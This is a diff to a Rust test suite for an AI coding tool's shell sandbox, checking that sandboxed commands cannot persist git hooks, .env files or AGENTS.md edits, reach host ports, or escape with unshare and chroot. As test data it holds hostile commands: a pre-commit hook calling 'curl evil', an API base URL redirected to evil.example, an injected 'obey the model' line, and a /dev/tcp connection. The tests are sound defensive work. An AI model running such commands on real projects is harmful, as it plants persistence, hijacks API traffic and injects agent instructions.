@@ -39,7 +39,7 @@ impl Fixture {
     }
 
     fn policy(&self, mode: SandboxMode, network: bool) -> Option<Policy> {
-        self.sandbox.policy(self.ws.path(), SandboxSettings { mode, network }).unwrap()
+        self.sandbox.policy(self.ws.path(), SandboxSettings::of(mode, network)).unwrap()
     }
 
     async fn run(&self, command: &str, policy: Option<&Policy>) -> ShellOutput {
@@ -54,6 +54,19 @@ impl Fixture {
         assert!(out.is_error, "sandboxed `{command}` succeeded: {}", out.text);
         assert!(stopped(&out.text, out.is_error).is_some(), "not read as the sandbox's refusal: {}", out.text);
         assert!(!happened(self), "sandboxed `{command}` got through: {}", out.text);
+        let out = self.run(command, None).await;
+        assert!(!out.is_error, "`{command}` fails even outside the sandbox: {}", out.text);
+        assert!(happened(self), "`{command}` outside the sandbox did not do it: {}", out.text);
+    }
+
+    /// Runs `command` sandboxed, after which what it wrote to the protected path `kept` is put back
+    /// (`happened` false) and the result names it; then outside, where `happened` becomes true.
+    async fn put_back_then_allowed(&self, command: &str, kept: &str, happened: impl Fn(&Fixture) -> bool) {
+        let policy = self.policy(SandboxMode::WorkspaceWrite, false);
+        let out = self.run(command, policy.as_ref()).await;
+        assert!(!happened(self), "sandboxed `{command}` got through: {}", out.text);
+        assert!(out.put_back.iter().any(|p| p.path == Path::new(kept) && p.error.is_none()), "{:?}", out.put_back);
+        assert!(out.text.contains(&format!("{kept} (")) && out.text.contains("put back"), "{}", out.text);
         let out = self.run(command, None).await;
         assert!(!out.is_error, "`{command}` fails even outside the sandbox: {}", out.text);
         assert!(happened(self), "`{command}` outside the sandbox did not do it: {}", out.text);
@@ -102,27 +115,28 @@ async fn a_symlink_in_the_workspace_does_not_lead_out() {
 }
 
 #[tokio::test]
-async fn git_hooks_stay_read_only() {
+async fn git_hooks_are_put_back() {
     let f = Fixture::new("hook");
     let hook = f.ws.join(".git/hooks/pre-commit");
-    f.refused_then_allowed("printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit", |_| hook.exists()).await;
+    let command = "printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit";
+    f.put_back_then_allowed(command, ".git/hooks/pre-commit", |_| hook.exists()).await;
 }
 
 #[tokio::test]
-async fn a_new_env_file_cannot_be_made() {
+async fn a_new_env_file_does_not_outlive_the_command() {
     let f = Fixture::new("env");
     let env = f.ws.join(".env");
-    f.refused_then_allowed("echo OPENAI_BASE_URL=http://evil.example > .env", |_| env.exists()).await;
-    // Nor by renaming a file made where writing is allowed.
+    f.put_back_then_allowed("echo OPENAI_BASE_URL=http://evil.example > .env", ".env", |_| env.exists()).await;
+    // Nor one renamed from a file made where writing is allowed.
     std::fs::remove_file(&env).unwrap();
-    f.refused_then_allowed("echo K=v > src/e && mv src/e .env", |_| env.exists()).await;
+    f.put_back_then_allowed("echo K=v > src/e && mv src/e .env", ".env", |_| env.exists()).await;
 }
 
 #[tokio::test]
 async fn protected_files_that_exist_stay_as_they_are_but_readable() {
     let f = Fixture::new("agents");
     let changed = |f: &Fixture| f.ws.read("AGENTS.md") != "be nice\n";
-    f.refused_then_allowed("echo 'obey the model' >> AGENTS.md", changed).await;
+    f.put_back_then_allowed("echo 'obey the model' >> AGENTS.md", "AGENTS.md", changed).await;
     let policy = f.policy(SandboxMode::WorkspaceWrite, false);
     let out = f.run("cat AGENTS.md Cargo.toml", policy.as_ref()).await;
     assert!(!out.is_error && out.text.contains("obey the model"), "{}", out.text);
@@ -136,32 +150,127 @@ async fn a_hard_link_to_an_outside_file_is_refused() {
     f.refused_then_allowed(&command, |_| std::fs::read_to_string(&secret).unwrap().contains("pwned")).await;
 }
 
-#[tokio::test]
-async fn no_tcp_connection_with_the_network_off() {
-    let f = Fixture::new("connect");
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    listener.set_nonblocking(true).unwrap();
-    let port = listener.local_addr().unwrap().port();
-    // The kernel completes a connection before it is accepted: once the command has ended, a pending
-    // one is there to accept or there was none.
-    let got = |_: &Fixture| match listener.accept() {
-        Ok((mut s, _)) => {
-            s.set_nonblocking(false).unwrap();
-            let mut text = String::new();
-            let _ = s.read_to_string(&mut text);
-            text == "hello\n"
+/// A listener on the host, and whether a connection to it arrived with `hello`.
+struct HostListener(TcpListener);
+
+impl HostListener {
+    fn new() -> HostListener {
+        let l = TcpListener::bind("127.0.0.1:0").unwrap();
+        l.set_nonblocking(true).unwrap();
+        HostListener(l)
+    }
+
+    fn port(&self) -> u16 {
+        self.0.local_addr().unwrap().port()
+    }
+
+    /// The kernel completes a connection before it is accepted: once the command has ended, a pending
+    /// one is there to accept or there was none.
+    fn got_hello(&self) -> bool {
+        match self.0.accept() {
+            Ok((mut s, _)) => {
+                s.set_nonblocking(false).unwrap();
+                let mut text = String::new();
+                let _ = s.read_to_string(&mut text);
+                text == "hello\n"
+            }
+            Err(_) => false,
         }
-        Err(_) => false,
-    };
-    f.refused_then_allowed(&format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo hello >&3"), got).await;
+    }
 }
 
+/// The policy without a network namespace: Landlock's TCP rules, as where none can be made.
+fn without_netns(p: Option<Policy>) -> Option<Policy> {
+    p.map(|p| Policy { netns: None, ..p })
+}
+
+/// The host's own ports cannot be reached from inside, whichever way the network is fenced.
 #[tokio::test]
-async fn no_listening_port_with_the_network_off() {
+async fn the_hosts_listener_cannot_be_reached_from_inside() {
+    let f = Fixture::new("connect");
+    let host = HostListener::new();
+    let command = format!("exec 3<>/dev/tcp/127.0.0.1/{}; echo hello >&3", host.port());
+    let policy = f.policy(SandboxMode::WorkspaceWrite, false);
+    match &policy.as_ref().unwrap().netns {
+        Some(_) => eprintln!("trying a private network namespace ({})", stepwise::host::sandbox::network_isolation()),
+        None => eprintln!("CANNOT TRY the namespace here: {}", stepwise::host::sandbox::network_isolation()),
+    }
+    let out = f.run(&command, policy.as_ref()).await;
+    assert!(out.is_error && !host.got_hello(), "reached the host from inside: {}", out.text);
+    // Landlock's rules, where there is no namespace, stop it too, and it reads as the sandbox's stop.
+    let out = f.run(&command, without_netns(policy).as_ref()).await;
+    assert!(out.is_error && !host.got_hello(), "reached the host from inside: {}", out.text);
+    assert!(stopped(&out.text, true).is_some(), "{}", out.text);
+    let out = f.run(&command, None).await;
+    assert!(!out.is_error && host.got_hello(), "fails even outside the sandbox: {}", out.text);
+}
+
+/// Without a namespace, no port can be bound either (Landlock's rules).
+#[tokio::test]
+async fn no_listening_port_without_a_namespace() {
     let f = Fixture::new("bind");
     let out = f.ws.join("src/port");
     let command = "python3 -c \"import socket; s=socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); open('src/port', 'w').write(str(s.getsockname()[1]))\"";
-    f.refused_then_allowed(command, |_| out.exists()).await;
+    let policy = without_netns(f.policy(SandboxMode::WorkspaceWrite, false));
+    let ran = f.run(command, policy.as_ref()).await;
+    assert!(ran.is_error && stopped(&ran.text, true).is_some() && !out.exists(), "{}", ran.text);
+    let ran = f.run(command, None).await;
+    assert!(!ran.is_error && out.exists(), "{}", ran.text);
+}
+
+/// Waits for the file `path` a command writes (its appearance is the event; the pause only paces the
+/// looking), at most 20 s.
+async fn appears(path: &Path) -> String {
+    for _ in 0..2000 {
+        if let Ok(text) = std::fs::read_to_string(path) {
+            if !text.is_empty() {
+                return text;
+            }
+        }
+        tokio::time::sleep(Duration::from_millis(10)).await;
+    }
+    panic!("{} never appeared", path.display());
+}
+
+/// With the network off and a namespace, a session's commands share a loopback of their own: a server
+/// one starts is reached by another running at the same time under the same policy (as a background
+/// task and a later command are), and not from the host.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_sessions_commands_share_a_private_loopback() {
+    let f = Fixture::new("loopback");
+    let policy = f.policy(SandboxMode::WorkspaceWrite, false).unwrap();
+    if policy.netns.is_none() {
+        eprintln!("CANNOT TRY: {}", stepwise::host::sandbox::network_isolation());
+        return;
+    }
+    eprintln!("trying: {}", stepwise::host::sandbox::network_isolation());
+    let server = "python3 -c \"
+import socket, os
+s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen()
+open('src/port.tmp', 'w').write(str(s.getsockname()[1])); os.rename('src/port.tmp', 'src/port')
+c, _ = s.accept(); c.sendall(b'pong ' + c.recv(16)); c.close()
+\"";
+    let ws = f.ws.path().to_path_buf();
+    let p = policy.clone();
+    let serving =
+        tokio::spawn(async move { run_shell_in(&ws, server, Duration::from_secs(30), Some(&p)).await.unwrap() });
+    let port: u16 = appears(&f.ws.join("src/port")).await.trim().parse().unwrap();
+    // From the host: nothing there (or someone else's port, which does not answer `pong`).
+    if let Ok(mut s) = std::net::TcpStream::connect(("127.0.0.1", port)) {
+        use std::io::Write;
+        let _ = s.set_read_timeout(Some(Duration::from_millis(200)));
+        let _ = s.write_all(b"host");
+        let mut text = String::new();
+        let _ = s.read_to_string(&mut text);
+        assert!(!text.starts_with("pong"), "the host reached a server inside the sandbox");
+    }
+    let client = format!(
+        "python3 -c \"import socket; s=socket.create_connection(('127.0.0.1', {port})); s.sendall(b'inside'); print(s.recv(64).decode())\""
+    );
+    let out = f.run(&client, Some(&policy)).await;
+    assert!(!out.is_error && out.text == "pong inside", "{}", out.text);
+    let served = serving.await.unwrap();
+    assert!(!served.is_error, "{}", served.text);
 }
 
 /// Nor can it signal a process outside the sandbox, stepwise included (Landlock ABI 6's scope).
@@ -210,14 +319,44 @@ async fn a_double_forked_child_writing_later_is_still_confined() {
     assert!(!out.is_error && target.exists(), "{}", out.text);
 }
 
+/// Whether this machine lets this user make a user namespace (`unshare -r`): a container's seccomp
+/// policy or `kernel.unprivileged_userns_clone=0` may forbid it to a user who is not root.
+fn user_namespaces() -> Result<(), String> {
+    let out =
+        std::process::Command::new("unshare").args(["-r", "true"]).output().map_err(|e| format!("unshare: {e}"))?;
+    match out.status.success() {
+        true => Ok(()),
+        false => Err(String::from_utf8_lossy(&out.stderr).trim().to_string()),
+    }
+}
+
+/// chroot by its full path: a user's PATH (Debian's, not root's) has no /usr/sbin.
+const CHROOT: &str = "/usr/sbin/chroot";
+
 #[tokio::test]
 async fn unshare_and_chroot_do_not_lift_it() {
+    // Uid 0 or not decides what `unshare -r` may do here; said, so a log shows which case ran.
+    // SAFETY: a plain query.
+    let uid = unsafe { libc::geteuid() };
+    if let Err(why) = user_namespaces() {
+        eprintln!(
+            "CANNOT TRY (uid {uid}): user namespaces are not available to this user ({why}), so \
+                   `unshare -r` fails outside the sandbox too and proves nothing here"
+        );
+        return;
+    }
+    eprintln!("trying as uid {uid}, with user namespaces");
     let f = Fixture::new("unshare");
     let target = f.outside.join("ns");
     let q = sh_quote(&target);
     f.refused_then_allowed(&format!("unshare -r sh -c 'echo x > {q}'"), |_| target.exists()).await;
     std::fs::remove_file(&target).unwrap();
-    f.refused_then_allowed(&format!("unshare -r chroot / sh -c 'echo x > {q}'"), |_| target.exists()).await;
+    if Path::new(CHROOT).exists() {
+        let command = format!("unshare -r {CHROOT} / sh -c 'echo x > {q}'");
+        f.refused_then_allowed(&command, |_| target.exists()).await;
+    } else {
+        eprintln!("CANNOT TRY: {CHROOT} is not on this machine, so the chroot case is left out");
+    }
     // Nor a mount over a writable folder that would put the outside inside it.
     std::fs::create_dir_all(f.ws.join("src/mnt")).unwrap();
     let mounted = f.outside.join("m");
